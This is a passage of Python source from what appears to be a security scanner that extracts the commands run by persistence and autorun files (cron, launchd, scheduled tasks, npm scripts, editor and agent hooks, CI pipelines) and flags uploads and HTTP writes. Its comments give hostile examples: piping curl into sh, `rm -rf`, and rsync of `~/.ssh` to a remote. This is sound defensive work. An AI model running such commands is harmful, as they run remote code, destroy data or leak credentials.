        for k, a in enumerate(low):
            if (
                a in ("-path", "-literalpath", "-searchbase")
                and k + 1 < len(low)
                and u.words.argv[k + 2] not in roots
            ):
                roots.append(u.words.argv[k + 2])
        everything = (
            ("-filter" in low and "*" in u.words.argv)
            or "-recurse" in low
            or "-r" in low
            or (lister.startswith("get-") and "-all" in low)  # Microsoft Graph's every page
        )
        if not roots:
            roots = ["*"] if everything else ["."]
        if prog in ("foreach-object", "%"):
            if taker not in ("remove-item", "clear-content"):
                return ([taker, "*"], True) if everything else None
            return ([taker, *roots], everything)
        if lister.startswith("get-") and lister not in ("get-childitem", "get-item") and everything:
            return ([*argv, "*"], True)  # every object of a directory or service
        return ([*argv, *roots], everything)
    return None


_NPM_LIFECYCLE: Final = re.compile(
    r'"(?:pre|post)?(?:install|prepare|publish|pack)"\s*:\s*"((?:[^"\\]|\\.){1,2000})"'
)


# Git's config files (a repository's, a user's, the system's)
_GIT_CONFIG_FILES: Final = (".git/config", ".gitconfig", "/git/config", "/etc/gitconfig")
_INI_SECTION: Final = re.compile(r'\[\s*([\w.-]+)(?:\s+"([^"]*)")?\s*\]')


def _ini_settings(content: str) -> Iterator[tuple[str, str]]:
    """A Git config file's settings as (`section[.subsection].key` lowercased, value)."""
    section = ""
    for raw in content[:65536].splitlines()[:4096]:
        line = raw.strip()
        if line.startswith("["):
            m = _INI_SECTION.match(line)
            if m is not None:
                sub = f".{m.group(2)}" if m.group(2) is not None else ""
                section = (m.group(1) + sub).lower()
                line = line[m.end() :].strip()
        key, eq, value = line.partition("=")
        key = key.strip().lower()
        if not eq or not section or not key or key.startswith(("#", ";")):
            continue
        value = value.strip()
        if len(value) > 1 and value[0] == '"' and value.rfind('"') > 0:
            value = value[1 : value.rfind('"')]
        yield f"{section}.{key}", value


_TASK_EXEC: Final = re.compile(
    r"<Exec>\s*<Command>([^<]{1,1024})</Command>\s*(?:<Arguments>([^<]{0,8192})</Arguments>)?"
)


def task_xml_commands(content: str) -> list[str]:
    """A Windows scheduled task's XML: each `<Exec>` action's command line (`<Command>` and its
    `<Arguments>`, as written)."""
    import html

    out = []
    for m in _TASK_EXEC.finditer(content[:65536]):
        cmd = html.unescape(m.group(1).strip())
        args = html.unescape((m.group(2) or "").strip())
        out.append(f"{shell_word(cmd)} {args}".strip())
    return out[:16]


def _local_hooks(content: str) -> list[str]:
    """A pre-commit config's own hooks (`repo: local`): each `entry` with its `args`, run by Git
    on every commit; hooks of other repositories run code this file does not hold."""
    docs = yaml_docs(content[:65536])
    if not docs or not isinstance(docs[0], dict):
        return []
    out: list[str] = []
    for repo in docs[0].get("repos") or []:
        if not isinstance(repo, dict) or repo.get("repo") != "local":
            continue
        for hook in repo.get("hooks") or []:
            if isinstance(hook, dict) and isinstance(hook.get("entry"), str):
                args = hook.get("args")
                extra = [shell_word(str(a)) for a in args] if isinstance(args, list) else []
                out.append(" ".join([hook["entry"], *extra]))
    return out[:32]


# JSON settings files whose commands their program runs by itself: VS Code's tasks with
# `"runOptions": {"runOn": "folderOpen"}`, a dev container's lifecycle commands, Claude Code's
# hooks (`.claude/settings.json`)
_AUTORUN_JSON: Final = ("tasks.json", "devcontainer.json", ".claude/settings.json",
                 ".claude/settings.local.json")  # fmt: skip
_CONTAINER_RUNS: Final = ("initializeCommand", "onCreateCommand", "updateContentCommand",
                   "postCreateCommand", "postStartCommand", "postAttachCommand")  # fmt: skip
_JSONC_COMMENT: Final = re.compile(r"^[ \t]*//[^\n]*$", re.M)


def _autorun_commands(path: str, content: str) -> list[str]:
    """The command lines a JSON settings file (`_AUTORUN_JSON`) has its program run by itself;
    none when it only defines what someone may run (a task without `runOn: folderOpen`)."""
    text = content[:65536]
    if path.endswith("tasks.json") and "folderopen" not in text.lower():
        return []
    try:
        doc = json.loads(text)
    except ValueError:
        try:  # JSON with comments (VS Code's own format)
            doc = json.loads(_JSONC_COMMENT.sub("", text))
        except ValueError:
            return []
    if not isinstance(doc, dict):
        return []

    def line(v: Any) -> str:
        if isinstance(v, str):
            return v
        if isinstance(v, list) and all(isinstance(x, str) for x in v):
            return " ".join(shell_word(x) for x in v)
        return ""

    out: list[str] = []
    if path.endswith("tasks.json"):
        for task in doc.get("tasks") or []:
            if not isinstance(task, dict):
                continue
            opts = task.get("runOptions")
            if not (isinstance(opts, dict) and str(opts.get("runOn", "")).lower() == "folderopen"):
                continue
            cmd = line(task.get("command"))
            args = task.get("args")
            if cmd and isinstance(args, list):
                cmd = " ".join([cmd, *(shell_word(str(a)) for a in args)])
            if cmd:
                out.append(cmd)
    elif path.endswith("devcontainer.json"):
        for k in _CONTAINER_RUNS:
            v = doc.get(k)
            vals = list(v.values()) if isinstance(v, dict) else [v]
            out.extend(x for x in (line(x) for x in vals) if x)
    else:  # an agent's hooks: `{"hooks": {"PreToolUse": [{"hooks": [{"command": …}]}]}}`
        todo: list[Any] = [doc.get("hooks")]
        while todo and len(out) < 32:
            node = todo.pop()
            if isinstance(node, dict):
                if isinstance(node.get("command"), str):
                    out.append(node["command"])
                todo.extend(node.values())
            elif isinstance(node, list):
                todo.extend(node[:64])
    return out[:32]


def _json_string(body: str) -> str:
    """A JSON string's text from between its quotes (as written when it does not decode)."""
    import json

    try:
        return str(json.loads(f'"{body}"'))
    except ValueError:
        return body


def _persisted_commands(path: str, content: str) -> list[str]:
    """The commands a persistence file will run: a cron table's command fields, a systemd unit's
    or desktop entry's `Exec…=` lines, a launchd plist's program arguments, a scheduled task's
    `<Exec>` actions, a pre-commit config's local hooks, or a shell rc file."""
    if "<Exec>" in content:
        return task_xml_commands(content)
    if "pre-commit-config" in path:
        return _local_hooks(content)
    if "<plist" in content or "<string>" in content:
        import html

        m = _PROGRAM_ARGS.search(content)
        if m is not None:  # one word per <string>: `sh -c "curl … | sh"` stays one command
            words = [html.unescape(x) for x in _XML_STRING.findall(m.group(1))]
            return [" ".join(shell_word(w) for w in words)]
        return [" ".join(html.unescape(x) for x in _XML_STRING.findall(content))]
    if path.endswith((".yml", ".yaml")) and "cron" not in path:
        return _pipeline_steps(content)
    if "apt.conf" in path:  # `APT::Update::Pre-Invoke {"cmd";};`: run by every apt update
        return [x for m in _APT_HOOK.finditer(content[:65536]) for x in _QUOTED.findall(m.group(1))]
    if "tmux" in path:  # `run-shell "cmd"`, `run -b 'cmd'`: run by every tmux start
        return [m.group(2) for m in _TMUX_RUN.finditer(content[:65536])][:32]
    # vim's `autocmd VimEnter * silent !cmd` (`|` is the shell's there), `system('cmd')`
    if "vim" in path:
        return [m.group(1) or m.group(2) for m in _VIM_SHELL.finditer(content[:65536])][:32]
    if path.lower().endswith("jenkinsfile"):  # a pipeline's `sh '…'`, `bat "…"` steps
        return [m.group(2) for m in _JENKINS_STEP.finditer(content[:65536])][:32]
    execs = _EXEC_LINE.findall(content)
    if execs:
        return [e.strip() for e in execs]
    if "cron" in path:
        system = path.startswith("/etc/cron") or path == "/etc/crontab"
        out = []
        for line in content.splitlines():
            body = _cron_body(line, system)
            if body:
                out.append(body)
        return out
    return [content]


_APT_HOOK: Final = re.compile(r"(?:Pre|Post)-Invoke(?:-Success)?\s{0,8}\{([^{}]{0,4096})\}")
_QUOTED: Final = re.compile(r'"([^"\n]{1,4096})"')
_VIM_SHELL: Final = re.compile(
    r"(?:^|[\s:|])!(?!=)\s*([^\n]{1,4096})|\bsystem\(\s*['\"]([^'\"\n]{1,4096})['\"]", re.M
)
_TMUX_RUN: Final = re.compile(r"^\s*run(?:-shell)?(?:\s+-b)?\s+(['\"])(.{1,4096}?)\1", re.M)
# a Jenkins pipeline's shell steps: `sh 'cmd'`, `sh(script: "cmd")`, `bat """…"""`
_JENKINS_STEP: Final = re.compile(
    r"\b(?:sh|bat|powershell|pwsh)\s*\(?\s*(?:script\s*:\s*)?"
    r"('''|\"\"\"|'|\")((?:(?!\1).){1,4000}?)\1",
    re.S,
)
_STEP_KEYS: Final = frozenset(
    {"run", "script", "before_script", "after_script", "command", "commands"}
)
_STEP_LINE: Final = re.compile(r"^\s*-?\s*(?:run|script|command)\s*:\s*[|>]?\s*(\S.*)$", re.M)


def _pipeline_steps(content: str) -> list[str]:
    """The commands of a CI pipeline's steps (`run:`, `script:`…), read as YAML (by lines when
    it does not parse)."""
    docs = yaml_docs(content[:65536])
    if docs is None:
        return [m.group(1) for m in _STEP_LINE.finditer(content[:65536])]
    return yaml_commands(docs, _STEP_KEYS)


def yaml_docs(text: str) -> list[Any] | None:
    """A YAML text's documents (libyaml's parser where PyYAML has it: ten times faster), or
    None when it does not parse."""
    import yaml

    try:
        return list(yaml.load_all(text, Loader=getattr(yaml, "CSafeLoader", yaml.SafeLoader)))
    except yaml.YAMLError:
        return None


def playbook_commands(docs: list[Any], modules: frozenset[str], limit: int = 32) -> list[str]:
    """An Ansible playbook's tasks (in its plays, blocks, handlers) as the ad-hoc commands they
    stand for: `- shell: rm -rf /x` is `ansible all -m shell -a 'rm -rf /x'`, `- file: {path:
    /x, state: absent}` is `… -m file -a 'path=/x state=absent'`."""
    out: list[str] = []
    for node in _mappings(docs):
        for k, v in node.items():
            module = str(k).lower()
            if module in modules:
                args = _module_args(v)
                if args:
                    out.append(f"ansible all -m {module} -a {shell_word(args)}")
        if len(out) >= limit:
            break
    return out[:limit]


def _mappings(docs: list[Any]) -> Iterator[dict[Any, Any]]:
    """The mappings of parsed YAML documents, depth first: at most 4,096 nodes looked at (a
    document of aliases may be exponentially large once expanded), 256 items of a list."""
    todo: list[Any] = list(docs)
    seen = 0
    while todo and seen < 4096:
        node = todo.pop()
        seen += 1
        if isinstance(node, dict):
            yield node
            todo.extend(v for v in node.values() if isinstance(v, dict | list))
        elif isinstance(node, list):
            todo.extend(node[:256])


def _module_args(value: Any) -> str:
    """A task's module arguments as one `-a` text: the command (`cmd`, `argv`) or `key=value`
    words."""
    if isinstance(value, str):
        return value[:4096]
    if not isinstance(value, dict):
        return ""
    cmd = value.get("cmd") or value.get("_raw_params")
    if isinstance(cmd, str):
        return cmd[:4096]
    argv = value.get("argv")
    if isinstance(argv, list):
        return " ".join(shell_word(str(x)) for x in argv[:64])
    return " ".join(
        f"{k}={shell_word(str(x))}"
        for k, x in list(value.items())[:32]
        if isinstance(x, str | int | float | bool)
    )


def yaml_commands(
    docs: list[Any], keys: frozenset[str], argv_keys: frozenset[str] = frozenset(), limit: int = 64
) -> list[str]:
    """The shell lines under `keys` in YAML documents: a string is one; a list of strings one a
    line, or one argv when its key is in `argv_keys` (a container's `command` + `args`,
    joined); a list's lists one argv each (cloud-init's `runcmd: [[sh, -c, …]]`)."""
    out: list[str] = []
    for node in _mappings(docs):
        argv: list[str] = []
        for k, v in node.items():
            key = str(k).lower()
            if key not in keys or not isinstance(v, str | list):
                continue
            if isinstance(v, str):
                out.append(v)
            elif key in argv_keys and all(isinstance(x, str) for x in v):
                argv.extend(v)
            else:
                out.extend(
                    x if isinstance(x, str) else " ".join(shell_word(str(w)) for w in x)
                    for x in v
                    if isinstance(x, str | list)
                )
        if argv:
            out.append(" ".join(shell_word(w) for w in argv))
        if len(out) >= limit:
            break
    return out


def _cron_body(line: str, system: bool) -> str:
    """`m h dom mon dow [user] command` or `@reboot [user] command` -> command."""
    s = line.strip()
    if not s or s.startswith("#") or _ASSIGN.match(s):
        return ""
    fields = s.split()
    n = 1 if s.startswith("@") else 5
    if system:
        n += 1
    return " ".join(fields[n:]) if len(fields) > n else ""


def _installed_command(prog: str, argv: list[str]) -> str:
    """The command a registry Run key, a scheduled task or a service is set to run."""
    low = [a.lower() for a in argv]

    def after(*flags: str) -> str:
        for k in range(len(low) - 1):
            if low[k] in flags:
                return argv[k + 1]
        return ""

    if prog == "reg" and "add" in low:
        return after("/d")
    if prog in ("new-itemproperty", "set-itemproperty", "sp") and any(
        "currentversion\\run" in a for a in low
    ):
        return after("-value")  # a Run key's value: run at every logon
    if prog == "schtasks":
        return after("/tr")
    if prog in ("new-scheduledtaskaction",):
        return (after("-execute") + " " + after("-argument")).strip()
    if prog in ("new-service", "sc") and ("create" in low or prog == "new-service"):
        return after("-binarypathname", "binpath=", "binpath")
    if prog == "defaults" and "programarguments" in low:
        # `defaults write <launchd plist> ProgramArguments -array /bin/sh -c '…'`
        k = low.index("programarguments")
        words = argv[k + 1 :]
        if words and words[0].lower() in ("-array", "-array-add"):
            words = words[1:]
        return render(words)
    if prog == "runas":
        pos = [a for a in argv[1:] if not a.startswith("/")]
        return pos[-1] if pos else ""
    return ""


def _same_pipeline(c: Cmd, upstream: list[_Ran], limit: int = 8) -> list[_Ran]:
    """The last few commands before `c` in its own pipeline, in order (a bounded look back)."""
    out: list[_Ran] = []
    for u in reversed(upstream):
        if u.cmd.pipeline != c.pipeline or len(out) >= limit:
            break
        out.append(u)
    out.reverse()
    return out


def _uploads_stdin(prog: str, argv: list[str], pos: list[str]) -> bool:
    """A copy to a remote whose source is its input (`_STDIN_NAMES` before the destination,
    or a subcommand that uploads its input: rclone's `rcat`)."""
    if prog in _CLOUD_REMOTES and pos[0].lower() in _STDIN_UPLOADS:
        return True
    last = len(argv) - 1 - argv[::-1].index(pos[-1]) if pos[-1] in argv else len(argv)
    return any(a in _STDIN_NAMES for a in argv[1:last])


def _without_trailing_values(argv: list[str], pos: list[str]) -> list[str]:
    """The positionals without the values of options given after the destination (`aws s3 cp
    F s3://b/k --acl public-read --profile x`, `rsync -a ~/.ssh h: --exclude known_hosts`): a
    word right after an option that is no path, URL or remote."""
    end = len(pos)
    i = len(argv) - 1
    while end > 2 and i > 1:
        word, prev = argv[i], argv[i - 1]
        if word != pos[end - 1]:
            if word.startswith("-"):
                i -= 1  # a switch given last (`--no-progress`)
                continue
            break
        if (
            not prev.startswith("-")
            or "=" in prev
            or word[:1] in "./~"
            or any(ch in word for ch in "/:@\\")
        ):
            break
        end -= 1
        i -= 2
    return pos[:end]


_HTTP_WRITES: Final = frozenset({"post", "put", "patch", "delete"})
_HTTP_VERBS: Final = _HTTP_WRITES | {"get", "head", "options"}
_JS_METHOD: Final = re.compile(r"""\bmethod\s*:\s*["'`](\w{3,7})["'`]""", re.I)
_JS_URL: Final = re.compile(r"""\burl\s*:\s*["'`]([^"'`\s]{1,2048})["'`]""")
# where a request's body opens in JavaScript options (`body: JSON.stringify({`, `data: {`)
_JS_BODY: Final = re.compile(r"\b(?:body|data|json)\s*:\s*(?:JSON\.stringify\s*\(\s*)?\{")
_PY_BODY_KEYS: Final = ("json", "data", "body", "content")
_ROUTE: Final = re.compile(r"(GET|POST|PUT|PATCH|DELETE)\s+(/\S{0,2047})", re.I)
_ROUTE_PARAM: Final = re.compile(r"\{(\w{1,64})\}")
# A URL built from a base held elsewhere and a literal path (`BASE + "/me/messageRules"`,
# `f"{GRAPH}/users/{uid}/roles"`): the path, as the first argument's first string gives it.
_BASE_PATH: Final = re.compile(
    r"""^[^,'"`]{0,200}[+(]?\s*f?(["'`])(?:\{[^}'"`]{1,100}\}|\$\{[^}'"`]{1,100}\})?(/[^"'`\s]{1,2047})\1"""
)


def _http_call(call: code.Call, text: str, python: bool) -> dict[str, Any] | None:
    """An HTTP client's call as the fields of its request, when it writes (`POST`, `PUT`,
    `PATCH`, `DELETE`) to a URL or a forge's route; None otherwise. `text`: what the call
    chains were scanned in (its options are read up to 4,096 characters from `call.at`)."""
    last = call.name.lower()
    method = last if last in _HTTP_VERBS else ""
    args = call.args
    url = ""
    body: Any = None
    if not method and args and args[0].lower() in _HTTP_VERBS:
        method, args = args[0].lower(), args[1:]  # `requests.request("PATCH", url, …)`
    route = _ROUTE.match(args[0]) if args and args[0] else None
    if route is not None:  # Octokit's `request("PATCH /repos/{owner}/{repo}", {…})`
        method = method or route.group(1).lower()
    argtext = call.argtext
    if not python and len(argtext) >= 300 and 0 <= call.at < len(text):
        argtext = text[call.at : call.at + 4096]  # options past the first 300 characters
    if not method and not python:
        m = _JS_METHOD.search(argtext)
        method = m.group(1).lower() if m else "get"
    if python and not method:
        method = str(call.kwargs.get("method", "")).lower()
    if method not in _HTTP_WRITES:
        return None
    url = next((a for a in args[:2] if "://" in a[:12]), "")
    if not url and not python:
        m = _JS_URL.search(argtext)
        url = m.group(1) if m else ""
    if python:
        node = next((call.dicts[k] for k in _PY_BODY_KEYS if k in call.dicts), None)
        body = code.loose_literal(node) if node is not None else None
    else:
        m = _JS_BODY.search(argtext)
        if m is not None:
            body = code.js_object(argtext, m.end() - 1)
        elif route is not None or not url:
            brace = argtext.find("{", argtext.find(",") + 1) if "," in argtext else -1
            body = code.js_object(argtext, brace) if brace >= 0 else None
        else:  # `axios.patch(url, {…})`: the object after the URL
            comma = argtext.find(",")
            rest = argtext[comma + 1 :].lstrip() if comma >= 0 else ""
            if rest.startswith("{"):
                body = code.js_object(rest, 0)
    if route is not None and not url:
        fields = body if isinstance(body, dict) else {}
        path = _ROUTE_PARAM.sub(lambda p: str(fields.get(p.group(1)) or p.group(0)), route.group(2))
        url = "https://api.github.com" + path
    if not url:
        if python and not argtext:  # the AST keeps no text: the call's, as written
            at = text.find(call.chain + "(", 0, 65536)
            argtext = text[at + len(call.chain) + 1 : at + len(call.chain) + 301] if at >= 0 else ""
        m = _BASE_PATH.match(argtext)
        if m is None:
            return None
        url = "https://…" + m.group(2)  # the host is not in the text: unknown, not outside
    out: dict[str, Any] = {"method": method.upper(), "url": url}
    if isinstance(body, dict) and body:
        out["json"] = body
    return out
